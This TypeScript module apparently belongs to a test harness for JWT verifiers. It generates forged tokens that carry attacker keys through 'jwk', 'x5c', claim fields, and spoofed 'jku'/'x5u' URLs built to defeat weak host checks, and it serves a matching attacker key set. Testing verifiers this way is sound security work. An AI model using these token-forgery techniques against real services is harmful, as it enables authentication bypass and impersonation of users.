/** The token brings its own key, or says where to fetch it (RFC 7515 4.1.2 to 4.1.8, 10.6; RFC 8725 3.10). */
import { X509Certificate } from 'node:crypto'
import type { Served, ServedUrls } from '../../oracle/served-urls.ts'
import { selfSignedCertificate } from '../../testing/certificate.ts'
import type { World } from '../world/world.ts'
import { tokenAttack } from './token-attack.ts'
import { attackerKey, attackerToken } from './tokens.ts'

/** The attacker's key published under its own `kid` and under each of the issuer's. */
export function attackerJwks(world: World): Served {
  const { kid, jwk } = attackerKey(world)
  const kids = [kid, ...world.issuers.flatMap(({ keys }) => keys.map((key) => key.kid))]
  return { kind: 'body', body: JSON.stringify({ keys: kids.map((name) => ({ ...jwk, kid: name })) }) }
}

/** The `kid`s under which an attacker's key may get past a look-up: its own, the issuer's, none. */
function headers(world: World, issuerKid: string, members: object): string[] {
  return [attackerKey(world).kid, issuerKid, undefined].map((kid) => JSON.stringify({ kid, ...members }))
}

const embeddedJwk = tokenAttack('embedded-jwk', 'key-selection', 'CVE-2018-0114', (world, { issuer, claims }) => {
  const { jwk } = attackerKey(world)
  const bare = { ...jwk, kid: undefined, alg: undefined, use: undefined }
  const issuerKid = issuer.keys[0].kid
  return [jwk, bare, { ...jwk, kid: issuerKid }].flatMap((embedded) =>
    headers(world, issuerKid, { jwk: embedded }).map((header) => attackerToken(world, claims, JSON.parse(header))),
  )
})

const embeddedKeyElsewhere = tokenAttack(
  'embedded-key-elsewhere',
  'key-selection',
  'RFC 7800 3.2',
  (world, { claims }) => {
    const { jwk } = attackerKey(world)
    return [
      attackerToken(world, { ...claims, jwk }),
      attackerToken(world, { ...claims, cnf: { jwk } }),
      attackerToken(world, claims, { keys: [jwk] }),
      attackerToken(world, claims, { jwks: { keys: [jwk] } }),
      attackerToken(world, claims, { key: attackerKey(world).publicKey.export({ format: 'pem', type: 'spki' }) }),
    ]
  },
)

/** Where a `jku` may point so that a careless comparison with the true one still says yes. */
const places: readonly { name: string; source: string; url: (attacker: string, trueUri: string) => string }[] = [
  { name: 'plain', source: 'RFC 7515 4.1.2', url: (attacker) => `${attacker}/.well-known/jwks.json` },
  { name: 'query', source: 'RFC 8725 3.10', url: (attacker, uri) => `${attacker}/?${uri}` },
  { name: 'fragment', source: 'RFC 8725 3.10', url: (attacker, uri) => `${attacker}/#${uri}` },
  { name: 'path', source: 'RFC 8725 3.10', url: (attacker, uri) => `${attacker}/${uri}` },
  {
    name: 'user-info',
    source: 'RFC 3986 7.6',
    url: (attacker, uri) => `https://${new URL(uri).host}@${new URL(attacker).host}/.well-known/jwks.json`,
  },
  {
    name: 'sub-domain',
    source: 'RFC 8725 3.10',
    url: (attacker, uri) => `https://${new URL(uri).host}.${new URL(attacker).host}${new URL(uri).pathname}`,
  },
  {
    name: 'same-host',
    source: 'RFC 8725 3.10',
    url: (_attacker, uri) => `${new URL(uri).origin}/us-east-1_ATTACKER1/.well-known/jwks.json`,
  },
]

const namedUrls = places.flatMap(({ name, source, url }) => {
  const place = (world: World, uri: string) => url(world.attackerOrigin, uri)
  const serveKeys = (world: World, uri: string) => servedAt(place(world, uri), attackerJwks(world))
  return [
    tokenAttack(
      `jku-${name}`,
      'key-selection',
      source,
      (world, { issuer, claims }) =>
        headers(world, issuer.keys[0].kid, { jku: place(world, issuer.jwksUri) }).map((header) =>
          attackerToken(world, claims, JSON.parse(header)),
        ),
      (world, { issuer }) => serveKeys(world, issuer.jwksUri),
    ),
    tokenAttack(
      `x5u-${name}`,
      'key-selection',
      name === 'plain' ? 'RFC 7515 4.1.5' : source,
      (world, { issuer, claims }) => {
        if (!certificate(world)) return null
        return headers(world, issuer.keys[0].kid, { x5u: place(world, issuer.jwksUri) }).map((header) =>
          attackerToken(world, claims, JSON.parse(header)),
        )
      },
      (world, { issuer }) => servedAt(place(world, issuer.jwksUri), { kind: 'body', body: pemCertificate(world) }),
    ),
  ]
})

const embeddedCertificate = tokenAttack(
  'embedded-x5c',
  'key-selection',
  'RFC 7515 4.1.6',
  (world, { issuer, claims }) => {
    const der = certificate(world)
    if (!der) return null
    return headers(world, issuer.keys[0].kid, { x5c: [der.toString('base64')] }).map((header) =>
      attackerToken(world, claims, JSON.parse(header)),
    )
  },
)

export const keyInjectionAttacks = [embeddedJwk, embeddedKeyElsewhere, ...namedUrls, embeddedCertificate]

function certificate(world: World): Buffer | null {
  return selfSignedCertificate(attackerKey(world), new URL(world.issuers[0].jwksUri).host)
}

function pemCertificate(world: World): string {
  const der = certificate(world)
  return der ? new X509Certificate(der).toString() : ''
}

/** As a client would write the URL in its request, and as the token has it. */
export function servedAt(url: string, answer: Served): ServedUrls {
  const parsed = new URL(url)
  parsed.hash = ''
  const withoutUser = new URL(parsed)
  withoutUser.username = ''
  return { [url]: answer, [parsed.href]: answer, [withoutUser.href]: answer }
}
